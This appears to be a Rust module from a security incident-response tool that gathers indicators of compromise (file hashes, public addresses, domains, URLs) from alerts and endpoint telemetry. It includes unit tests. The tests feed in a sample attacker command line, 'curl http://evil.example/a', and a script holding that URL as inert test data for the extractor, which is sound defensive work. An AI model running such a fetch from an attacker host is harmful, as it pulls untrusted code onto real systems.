//! Which indicators an incident's alerts and records hold, and where each one stands.
//!
//! First what stands in fields of its own, then what is read out of command lines and scripts. What the operating system or a
//! maker has validly signed is no indicator by its hash, unless the alert is about it.

use std::collections::{BTreeMap, HashMap};

use super::{Ioc, extract};
use crate::alert::{Alert, Hash, Signature};
use crate::evidence::{Origin, is_public};
use crate::telemetry::{Direction, Hashes, Network, Process, Record, What};
use crate::untrusted::Untrusted;

/// Most indicators of one incident (SEC-38).
pub const MAX_OBSERVED: usize = 200;
/// Of these, what files and libraries may take: an unpacked archive must not push out the addresses.
const MAX_FILES: usize = 100;
/// Places named for each.
const MAX_ORIGINS: usize = 32;

/// The alerts' own files first, then in the order of the records.
pub fn observed(records: &[Record], alerts: &[Alert]) -> Vec<(Ioc, Vec<Origin>)> {
    let mut found = Found::default();
    for alert in alerts {
        if let Some(hash) = alert.file.best_hash() {
            found.add(Ioc::Hash(hash.clone()), || Origin::Alert(alert.id.clone()));
        }
    }
    // The same file may be known by another hash in the records.
    let own: Vec<&Hash> = alerts.iter().flat_map(|a| [&a.file.sha256, &a.file.sha1, &a.file.md5]).flatten().collect();
    let is_own = |hashes: &Hashes| hashes.all().any(|hash| own.contains(&hash));

    for record in records {
        let programs = [Some(&record.process), started(record)];
        for program in programs.into_iter().flatten() {
            if !is_signed(&program.signature) || is_own(&program.hashes) {
                found.hash(&program.hashes, record);
            }
        }
        for ioc in addresses(record) {
            found.add(ioc, || origin(record));
        }
    }
    let before = found.list.len();
    for record in records {
        let hashes = match &record.what {
            What::File { hashes, .. } => hashes,
            What::Module { hashes, signature, .. } if !is_signed(signature) || is_own(hashes) => hashes,
            _ => continue,
        };
        found.is_full = found.list.len() - before >= MAX_FILES;
        found.hash(hashes, record);
    }
    found.is_full = false;

    for alert in alerts {
        if let Some(text) = &alert.process.command_line {
            for ioc in extract(text.for_matching()) {
                found.add(ioc, || Origin::Alert(alert.id.clone()));
            }
        }
    }
    // Many records share one command line.
    let mut read: HashMap<&str, Vec<Ioc>> = HashMap::new();
    for record in records {
        for text in texts(record) {
            for ioc in read.entry(text.for_matching()).or_insert_with_key(|text| extract(text)) {
                found.add(ioc.clone(), || origin(record));
            }
        }
    }
    found.list
}

#[derive(Default)]
struct Found {
    list: Vec<(Ioc, Vec<Origin>)>,
    places: BTreeMap<Ioc, usize>,
    /// Only places of what is already there are added.
    is_full: bool,
}

impl Found {
    fn add(&mut self, ioc: Ioc, origin: impl FnOnce() -> Origin) {
        match self.places.get(&ioc) {
            Some(&place) => {
                let origins = &mut self.list[place].1;
                let origin = origin();
                if origins.len() < MAX_ORIGINS && !origins.contains(&origin) {
                    origins.push(origin);
                }
            }
            None if self.is_full || self.list.len() == MAX_OBSERVED => {}
            None => {
                self.places.insert(ioc.clone(), self.list.len());
                self.list.push((ioc, vec![origin()]));
            }
        }
    }

    fn hash(&mut self, hashes: &Hashes, record: &Record) {
        if let Some(hash) = hashes.best() {
            self.add(Ioc::Hash(hash.clone()), || origin(record));
        }
    }
}

fn origin(record: &Record) -> Origin {
    Origin::Record(record.id.clone(), record.agent.clone())
}

fn is_signed(signature: &Signature) -> bool {
    matches!(signature, Signature::Valid { .. })
}

fn started(record: &Record) -> Option<&Process> {
    match &record.what {
        What::ProcessStarted(started) => Some(started),
        _ => None,
    }
}

/// What the record itself calls an address or a name.
fn addresses(record: &Record) -> Vec<Ioc> {
    let read = |text: &Untrusted| Ioc::parse(text.for_matching());
    let mut found: Vec<Ioc> = match &record.what {
        What::Network(network) => far_ends(network).collect(),
        What::LogOn(log_on) => log_on.source.map(Ioc::Ip).into_iter().collect(),
        What::Dns { name, answers } => {
            let name = read(name).filter(|ioc| matches!(ioc, Ioc::Domain(_)));
            let answers = answers.iter().filter_map(read).filter(|ioc| matches!(ioc, Ioc::Ip(_)));
            name.into_iter().chain(answers).collect()
        }
        What::Http { url, .. } => extract(url.for_matching()),
        _ => Vec::new(),
    };
    found.retain(|ioc| !matches!(ioc, Ioc::Ip(address) if !is_public(address)));
    found
}

/// The other side, or both where the record does not say which one that is.
fn far_ends(network: &Network) -> impl Iterator<Item = Ioc> {
    let (source, destination) = (network.source, network.destination);
    let ends = match network.direction {
        Direction::Outgoing => [None, destination],
        Direction::Incoming => [source, None],
        Direction::Listening => [None, None],
        Direction::Unknown => [source, destination],
    };
    ends.into_iter().flatten().map(Ioc::Ip)
}

fn texts(record: &Record) -> impl Iterator<Item = &Untrusted> {
    let written = match &record.what {
        What::ProcessStarted(started) => started.command_line.as_ref(),
        What::Script { content } => Some(content),
        What::Registry { data, .. } => data.as_ref(),
        _ => None,
    };
    [record.process.command_line.as_ref(), written].into_iter().flatten()
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;

    use super::*;
    use crate::endpoint::Os;
    use crate::ids::AgentId;

    fn hash(digit: char) -> Hash {
        Hash::parse(&digit.to_string().repeat(64)).unwrap()
    }

    fn hashes(digit: char) -> Hashes {
        Hashes { sha256: Some(hash(digit)), sha1: None, md5: Hash::parse(&digit.to_string().repeat(32)) }
    }

    fn record(id: usize, process: Process, what: What) -> Record {
        Record {
            id: Untrusted::new(&id.to_string()),
            at: Some(Timestamp::UNIX_EPOCH),
            agent: AgentId::new("1").unwrap(),
            host: Untrusted::new("ws-17"),
            os: Os::Windows,
            process,
            storyline: None,
            what,
        }
    }

    fn network(direction: Direction, source: &str, destination: &str) -> What {
        What::Network(Network {
            direction,
            protocol: None,
            source: source.parse().ok(),
            source_port: None,
            destination: destination.parse().ok(),
            destination_port: None,
            succeeded: None,
        })
    }

    fn values(records: &[Record]) -> Vec<String> {
        observed(records, &[]).into_iter().map(|(ioc, _)| ioc.value()).collect()
    }

    #[test]
    fn fields_come_before_what_is_read_out_of_text_and_every_place_is_named() {
        let text = Untrusted::new("curl http://evil.example/a 198.51.100.1");
        let program = Process { hashes: hashes('a'), command_line: Some(text), ..Process::default() };
        let records = [
            record(1, program.clone(), network(Direction::Outgoing, "203.0.113.8", "198.51.100.1")),
            record(2, program, network(Direction::Incoming, "198.51.100.2", "10.0.0.1")),
        ];
        let found = observed(&records, &[]);
        let read: Vec<_> = found.iter().map(|(ioc, origins)| (ioc.value(), origins.len())).collect();
        let expected = [
            (hash('a').as_str().to_owned(), 2),
            ("198.51.100.1".to_owned(), 2),
            ("198.51.100.2".to_owned(), 1),
            ("http://evil.example/a".to_owned(), 2),
        ];
        assert_eq!(read, expected);
    }

    #[test]
    fn signed_programs_and_addresses_inside_are_no_indicators() {
        let signed =
            Process { hashes: hashes('b'), signature: Signature::Valid { publisher: None }, ..Process::default() };
        let name = Untrusted::new("dc01.acme.local");
        let answers = vec![Untrusted::new("10.0.0.2"), Untrusted::new("type: 5 x.example")];
        let records = [
            record(1, signed.clone(), network(Direction::Outgoing, "203.0.113.8", "10.0.0.9")),
            record(2, signed, What::Dns { name, answers }),
        ];
        assert_eq!(values(&records), Vec::<String>::new());
    }

    #[test]
    fn an_unpacked_archive_does_not_push_out_the_addresses_sec_38() {
        let file = |n: usize| What::File {
            change: crate::telemetry::FileChange::Created,
            path: Untrusted::new("x"),
            old_path: None,
            size_bytes: None,
            hashes: Hashes { sha256: Hash::parse(&format!("{:064x}", n + 1)), ..Hashes::default() },
        };
        let mut records: Vec<_> = (0..500).map(|n| record(n, Process::default(), file(n))).collect();
        let content = Untrusted::new("http://evil.example/a");
        records.push(record(500, Process::default(), What::Script { content }));
        let found = values(&records);
        assert_eq!((found.len(), found.last().map(String::as_str)), (MAX_FILES + 1, Some("http://evil.example/a")));
    }
}
